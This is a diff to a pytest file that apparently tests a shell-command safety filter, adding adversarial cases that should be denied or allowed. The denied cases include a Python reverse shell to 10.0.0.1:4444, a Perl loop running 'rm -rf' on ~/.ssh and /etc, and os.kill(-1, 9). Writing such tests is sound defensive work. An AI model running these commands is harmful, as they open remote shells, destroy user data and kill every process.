@@ -274,3 +274,27 @@ def test_python_decoded_downloaded_and_sql(command: str, want: str) -> None:
 @pytest.mark.parametrize("command", PYTHON_MORE_ORDINARY)
 def test_python_decoded_downloaded_and_sql_ordinary(command: str) -> None:
     _check(_run(command), ALLOW, command)
+
+
+# --- adversarial round on the changes above: found still allowed or asked, fixed, kept here ---------------------------
+
+ROUND = [
+    # dup2 onto the standard streams named through sys (not 0/1/2): asked as an interactive shell before.
+    (
+        "python3 -c \"import socket,os,pty,sys;s=socket.socket();s.connect(('10.0.0.1',4444));"
+        "os.dup2(s.fileno(),sys.stdin.fileno());os.dup2(s.fileno(),sys.stdout.fileno());pty.spawn('sh')\"",
+        DENY,
+    ),
+    # a loop over an array variable (not a literal list) in Perl: asked as a computed command before.
+    ('perl -e \'@d = ("/home/ana/.ssh", "/etc"); for my $x (@d) { system("rm -rf $x") }\'', DENY),
+    # signals sent from Python are `kill` as typed (os.kill(-1, 9) is kill -9 -1): allowed before.
+    (_py("import os; os.kill(-1, 9)"), DENY),
+    (_py("import os, signal; os.kill(-1, signal.SIGKILL)"), DENY),
+    (_py("import os, signal, subprocess; p = subprocess.Popen(['sleep', '9']); os.kill(p.pid, signal.SIGTERM)"), ALLOW),
+    (_py("import os, signal; os.kill(os.getpid(), signal.SIGTERM)"), ALLOW),
+]
+
+
+@pytest.mark.parametrize(("command", "want"), ROUND)
+def test_adversarial_round(command: str, want: str) -> None:
+    _check(_run(command), want, command)
